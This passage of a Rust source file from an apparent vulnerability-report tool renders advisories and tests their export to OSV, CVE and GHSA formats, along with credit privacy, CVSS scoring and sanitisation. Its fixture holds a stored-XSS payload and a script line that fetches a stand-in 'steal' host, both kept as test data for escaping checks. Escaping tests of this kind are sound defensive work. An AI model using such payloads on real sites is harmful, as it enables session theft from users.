        (Some(n), _) => format!("Reported by {}.", line(&n)),
        (None, Some("public")) => {
            "The reporter asked for public credit but gave no name: ask them how to be credited.".into()
        }
        (None, Some("anonymous")) => "Reported by a researcher who asked to stay anonymous.".into(),
        (None, _) => "The reporter has not said how to be credited: ask before naming them.".into(),
    };
    section("Credits", Some(&credit));
    let mut timeline = String::new();
    for (t, what) in [
        (&r.received_at, "Reported"),
        (&r.acknowledged_at, "Acknowledged"),
        (&r.triage.triaged_at, "Triaged"),
        (&r.triage.fixed_at, "Fixed"),
        (&r.triage.disclosed_at, "Disclosed"),
    ] {
        if let Some(t) = nonempty(t) {
            timeline.push_str(&format!("- {t}: {what}\n"));
        }
    }
    section("Timeline", Some(timeline.as_str()));
    let refs: String = urls(r, ctx).iter().map(|u| format!("- <{u}>\n")).collect();
    section("References", Some(refs.as_str()));
    if !ctx.team.is_empty() {
        s.push_str(&format!("\n---\nDraft advisory by {}.\n", line(&ctx.team)));
    }
    // Whatever came from the mail: no control or bidi characters in the file.
    crate::term::sanitize(&s, true)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::report::model::{Party, Reporter, Triage};

    const OSV_SCHEMA: &str = include_str!("../../tests/fixtures/schemas/osv-schema.json");
    const CVE_SCHEMA: &str = include_str!("../../tests/fixtures/schemas/CVE_Record_Format_5.1.1_bundled.json");
    const GHSA_SCHEMA: &str = include_str!("../../tests/fixtures/schemas/ghsa-create-repository-advisory.schema.json");

    fn validate(schema: &str, out: &str) -> Vec<String> {
        let schema: Value = serde_json::from_str(schema).unwrap();
        let v = jsonschema::options().should_validate_formats(true).build(&schema).unwrap();
        let instance: Value = serde_json::from_str(out).unwrap();
        v.iter_errors(&instance).map(|e| format!("{} at {}", e, e.instance_path())).collect()
    }

    fn ctx() -> Advisory {
        Advisory {
            vendor: "Example Org".into(),
            product: "widget".into(),
            ecosystem: Some("crates.io".into()),
            package: Some("widget".into()),
            repository: Some("https://github.com/example/widget".into()),
            homepage: Some("https://example.org".into()),
            cna_org_id: Some("8254265b-2729-46b6-b9e3-3dfca2d5bfca".into()),
            cna_short_name: Some("example".into()),
            team: "Example security team".into(),
            now: "2026-12-01T10:00:00Z".into(),
        }
    }

    fn cvss(vector: &str) -> Cvss {
        let p: cvss::Cvss = vector.parse().unwrap();
        Cvss { version: vector[5..8].into(), vector: vector.into(), score: (p.score() * 10.0).round() / 10.0 }
    }

    /// Every field set; the reporter named in free text too.
    fn full(credit: Option<&str>, vector: &str) -> Report {
        let mut r = Report { id: "VR-2026-0007".into(), ..Default::default() };
        r.message_id = Some("<r1@ada.example.net>".into());
        r.received_at = Some("2026-11-20T09:14:00Z".into());
        r.from = Party { name: Some("Ada Lovelace".into()), address: Some("ada@example.net".into()) };
        r.subject = Some("XSS in the admin panel, found by Ada Lovelace".into());
        r.signature.signer = Some("0123456789ABCDEF0123456789ABCDEF01234567".into());
        r.state = "fixed".into();
        r.severity = Some("high".into());
        let f = &mut r.fields;
        f.title = Some("Stored XSS in the admin panel".into());
        f.summary = Some("The name field is not escaped. Reported by Ada (adal0) <ada@example.net>.".into());
        f.steps_to_reproduce = Some("1. Log in\n2. Set the name to <script>alert(1)</script>".into());
        f.impact = Some("Session theft for administrators.".into());
        f.affected_component = Some("admin/users.rs".into());
        f.affected_versions = Some("< 1.4.2".into());
        f.vulnerability_type = Some("stored XSS".into());
        f.cwe = vec!["cwe-79".into()];
        f.cve = vec![];
        f.severity = Some("critical".into());
        f.cvss = Some(cvss(vector));
        f.proof_of_concept = Some("```\n<script>fetch('https://adal0.example/steal')</script>\n```".into());
        f.suggested_fix = Some("Escape the name on output.".into());
        f.environment = Some("Firefox 140 on Ada's laptop".into());
        f.references = vec!["https://github.com/adal0/widget-xss".into(), "https://example.org/issue/1".into()];
        f.reporter = Reporter {
            name: Some("Ada Lovelace".into()),
            handle: Some("@adal0".into()),
            contact: Some("https://ada.example.net/".into()),
            credit: credit.map(str::to_string),
        };
        f.disclosure_deadline = Some("2027-02-01".into());
        r.triage = Triage {
            assignee: Some("bob".into()),
            cvss: None,
            cve: vec!["CVE-2026-12345".into()],
            duplicate_of: None,
            triaged_at: Some("2026-11-21T10:00:00Z".into()),
            fixed_at: Some("2026-11-25T10:00:00Z".into()),
            disclosed_at: Some("2026-11-30T10:00:00Z".into()),
            closed_at: None,
        };
        r
    }

    fn minimal() -> Report {
        Report {
            id: "VR-2026-0001".into(),
            state: "new".into(),
            subject: Some("bug".into()),
            from: Party { name: None, address: Some("someone@example.com".into()) },
            ..Default::default()
        }
    }

    fn reports() -> Vec<(&'static str, Report)> {
        let v31 = "CVSS:3.1/AV:N/AC:L/PR:L/UI:R/S:C/C:H/I:L/A:N";
        let v40 = "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:P/VC:H/VI:L/VA:N/SC:L/SI:L/SA:N";
        let mut team_v4 = full(Some("public"), v31);
        team_v4.triage.cvss = Some(cvss(v40));
        let mut min_cve = minimal();
        min_cve.triage.cve = vec!["CVE-2026-0001".into()];
        let mut long = full(Some("public"), v40);
        long.fields.summary = Some("A very long summary. ".repeat(400));
        long.fields.suggested_fix = Some("x".repeat(5000));
        let mut through = full(None, v31);
        through.fields.affected_versions = Some(">= 1.0, <= 2.3.1".into());
        vec![
            ("public 3.1", full(Some("public"), v31)),
            ("anonymous 3.1", full(Some("anonymous"), v31)),
            ("no credit 4.0", full(None, v40)),
            ("public, team 4.0", team_v4),
            ("anonymous 4.0", full(Some("anonymous"), v40)),
            ("through", through),
            ("long texts", long),
            ("minimal", min_cve),
        ]
    }

    #[test]
    fn every_machine_format_validates_against_its_schema() {
        for (what, r) in reports() {
            for (format, schema) in [(Format::Osv, OSV_SCHEMA), (Format::Cve5, CVE_SCHEMA), (Format::Ghsa, GHSA_SCHEMA)]
            {
                let out = export(&r, &ctx(), format).unwrap_or_else(|e| panic!("{what} {format}: {e}"));
                let errors = validate(schema, &out);
                assert!(errors.is_empty(), "{what} {format}: {errors:#?}\n{out}");
            }
            let json: Value = serde_json::from_str(&export(&r, &ctx(), Format::Json).unwrap()).unwrap();
            assert_eq!(json["id"], r.id.as_str());
            assert!(!export(&r, &ctx(), Format::Markdown).unwrap().is_empty());
        }
    }

    #[test]
    fn a_minimal_context_still_validates() {
        let bare = Advisory {
            vendor: "Team".into(),
            product: "Team".into(),
            cna_org_id: ctx().cna_org_id,
            homepage: Some("https://example.org".into()),
            now: "2026-12-01T10:00:00Z".into(),
            ..Default::default()
        };
        for (what, r) in reports() {
            for (format, schema) in [(Format::Osv, OSV_SCHEMA), (Format::Cve5, CVE_SCHEMA), (Format::Ghsa, GHSA_SCHEMA)]
            {
                let out = export(&r, &bare, format).unwrap();
                let errors = validate(schema, &out);
                assert!(errors.is_empty(), "{what} {format}: {errors:#?}\n{out}");
            }
        }
    }

    #[test]
    fn the_schemas_reject_what_they_should() {
        // The validators are real: a record missing `modified`, or a CVE record
        // without its CNA container, fails.
        assert!(!validate(OSV_SCHEMA, r#"{"id": "x_1"}"#).is_empty());
        assert!(!validate(OSV_SCHEMA, r#"{"id": "VR-1", "modified": "2026-12-01T10:00:00Z"}"#).is_empty());
        assert!(!validate(CVE_SCHEMA, r#"{"dataType": "CVE_RECORD", "dataVersion": "5.1"}"#).is_empty());
        assert!(!validate(GHSA_SCHEMA, r#"{"summary": "s", "description": "d", "vulnerabilities": [{}]}"#).is_empty());
    }

    #[test]
    fn an_anonymous_reporter_is_named_in_no_format() {
        for (what, r) in reports() {
            if public_credit(&r) {
                continue;
            }
            let rep = &r.fields.reporter;
            let mut secrets: Vec<String> = [&rep.name, &rep.handle, &rep.contact, &r.from.name, &r.from.address]
                .into_iter()
                .flatten()
                .cloned()
                .collect();
            secrets.extend(["adal0".into(), "Lovelace".into(), "ada@example.net".into()]);
            if r.fields.reporter.name.is_none() {
                secrets.retain(|s| s != "adal0" && s != "Lovelace" && s != "ada@example.net");
            }
            for format in Format::ALL {
                let Ok(out) = export(&r, &ctx(), format) else { continue };
                for s in &secrets {
                    assert!(!out.to_lowercase().contains(&s.to_lowercase()), "{what} {format} names {s:?}:\n{out}");
                }
                assert!(!out.contains("0123456789ABCDEF0123456789ABCDEF01234567"), "{what} {format}: signer");
            }
        }
    }

    #[test]
    fn a_public_reporter_is_credited_everywhere_it_can_be() {
        let r = full(Some("public"), "CVSS:3.1/AV:N/AC:L/PR:L/UI:R/S:C/C:H/I:L/A:N");
        let osv: Value = serde_json::from_str(&export(&r, &ctx(), Format::Osv).unwrap()).unwrap();
        assert_eq!(osv["credits"][0]["name"], "Ada Lovelace (@adal0)");
        assert_eq!(osv["credits"][0]["contact"][0], "https://ada.example.net/");
        let cve: Value = serde_json::from_str(&export(&r, &ctx(), Format::Cve5).unwrap()).unwrap();
        assert_eq!(cve["containers"]["cna"]["credits"][0]["value"], "Ada Lovelace (@adal0)");
        let ghsa: Value = serde_json::from_str(&export(&r, &ctx(), Format::Ghsa).unwrap()).unwrap();
        assert_eq!(ghsa["credits"], json!([{ "login": "adal0", "type": "reporter" }]));
        assert!(export(&r, &ctx(), Format::Markdown).unwrap().contains("Reported by Ada Lovelace (@adal0)."));
        // Without a stated wish nobody is credited.
        let r = full(None, "CVSS:3.1/AV:N/AC:L/PR:L/UI:R/S:C/C:H/I:L/A:N");
        for f in [Format::Osv, Format::Cve5, Format::Ghsa] {
            let v: Value = serde_json::from_str(&export(&r, &ctx(), f).unwrap()).unwrap();
            assert!(v.get("credits").is_none() && v["containers"]["cna"].get("credits").is_none(), "{f}");
        }
        assert!(export(&r, &ctx(), Format::Markdown).unwrap().contains("ask before naming them"));
    }

    #[test]
    fn cve_metrics_are_computed_from_the_vector() {
        let r = full(Some("public"), "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H");
        let v: Value = serde_json::from_str(&export(&r, &ctx(), Format::Cve5).unwrap()).unwrap();
        let m = &v["containers"]["cna"]["metrics"][0]["cvssV3_1"];
        assert_eq!((m["baseScore"].as_f64(), m["baseSeverity"].as_str()), (Some(9.8), Some("CRITICAL")), "{m}");
        assert_eq!(m["attackVector"], "NETWORK");
        assert_eq!(m["scope"], "UNCHANGED");
        let r = full(Some("public"), "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N");
        let v: Value = serde_json::from_str(&export(&r, &ctx(), Format::Cve5).unwrap()).unwrap();
        let m = &v["containers"]["cna"]["metrics"][0]["cvssV4_0"];
        assert_eq!((m["baseScore"].as_f64(), m["baseSeverity"].as_str()), (Some(9.3), Some("CRITICAL")), "{m}");
        assert_eq!(m["vulnConfidentialityImpact"], "HIGH");
        assert_eq!(v["cveMetadata"]["cveId"], "CVE-2026-12345");
    }

    #[test]
    fn a_cve_record_needs_an_assigned_cve() {
        let mut r = minimal();
        let e = export(&r, &ctx(), Format::Cve5).unwrap_err();
        assert!(e.to_string().contains("vulnmail triage VR-2026-0001 --cve"), "{e}");
        r.triage.cve = vec!["CVE-2026-1".into()];
        assert!(matches!(export(&r, &ctx(), Format::Cve5), Err(ExportError::BadCve(_))));
        r.triage.cve = vec!["CVE-2026-10001".into()];
        let no_org = Advisory { cna_org_id: None, ..ctx() };
        assert!(matches!(export(&r, &no_org, Format::Cve5), Err(ExportError::NoCnaOrgId)));
    }

    #[test]
    fn osv_ids_carry_a_known_prefix() {
        let v: Value = serde_json::from_str(&export(&minimal(), &ctx(), Format::Osv).unwrap()).unwrap();
        assert_eq!(v["id"], "x_VR-2026-0001");
        assert_eq!(v["database_specific"]["vulnmail_id"], "VR-2026-0001");
        let r = full(Some("public"), "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H");
        let v: Value = serde_json::from_str(&export(&r, &ctx(), Format::Osv).unwrap()).unwrap();
        assert_eq!(v["id"], "CVE-2026-12345");
        assert_eq!(v["affected"][0]["ranges"][0]["events"], json!([{ "introduced": "0" }, { "fixed": "1.4.2" }]));
        assert_eq!(v["severity"][0]["type"], "CVSS_V3");
    }

    #[test]
    fn ghsa_sets_a_vector_or_a_severity_never_both() {
        for (what, r) in reports() {
            let v: Value = serde_json::from_str(&export(&r, &ctx(), Format::Ghsa).unwrap()).unwrap();
            assert!(!(v.get("severity").is_some() && v.get("cvss_vector_string").is_some()), "{what}: {v}");
        }
        let mut r = minimal();
        r.severity = Some("medium".into());
        let v: Value = serde_json::from_str(&export(&r, &ctx(), Format::Ghsa).unwrap()).unwrap();
        assert_eq!(v["severity"], "medium");
    }

    #[test]
    fn the_proof_of_concept_cannot_close_its_fence() {
        let r = full(Some("public"), "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H");
        let md = export(&r, &ctx(), Format::Markdown).unwrap();
        assert!(md.contains("````text\n```\n<script>"), "{md}");
        let mut r = r;
        r.fields.summary = Some("bidi \u{202E} and escape \u{1b}[31m".into());
        let md = export(&r, &ctx(), Format::Markdown).unwrap();
        assert!(!md.contains('\u{202E}') && !md.contains('\u{1b}'));
        assert!(md.contains("to &lt;script&gt;alert(1)&lt;/script&gt;"), "{md}");
        assert!(md.contains("**Affected versions:** &lt; 1.4.2"), "{md}");
    }

    #[test]
    fn version_ranges_are_read_from_common_phrasings() {
        let b = |i: &str, f: &str| Some(Versions::Before { introduced: i.into(), fixed: f.into() });
        let t = |i: &str, l: &str| Some(Versions::Through { introduced: i.into(), last: l.into() });
        assert_eq!(parse_versions("< 1.4.2"), b("0", "1.4.2"));
        assert_eq!(parse_versions("before v1.4.2"), b("0", "1.4.2"));
        assert_eq!(parse_versions(">= 1.0, < 1.4.2"), b("1.0", "1.4.2"));
        assert_eq!(parse_versions("<= 2.3.1"), t("0", "2.3.1"));
        assert_eq!(parse_versions("2.3.1 and earlier"), t("0", "2.3.1"));
        assert_eq!(parse_versions("up to 2.3.1"), t("0", "2.3.1"));
        assert_eq!(parse_versions("1.2.0, 1.2.1"), Some(Versions::Exact(vec!["1.2.0".into(), "1.2.1".into()])));
        assert_eq!(parse_versions("all versions since the rewrite"), None);
        assert_eq!(parse_versions("1.x before 1.4.2"), None);
    }

    #[test]
    fn formats_parse_by_name() {
        for f in Format::ALL {
            assert_eq!(f.name().parse::<Format>().unwrap(), f);
        }
        assert!("pdf".parse::<Format>().is_err());
    }
}
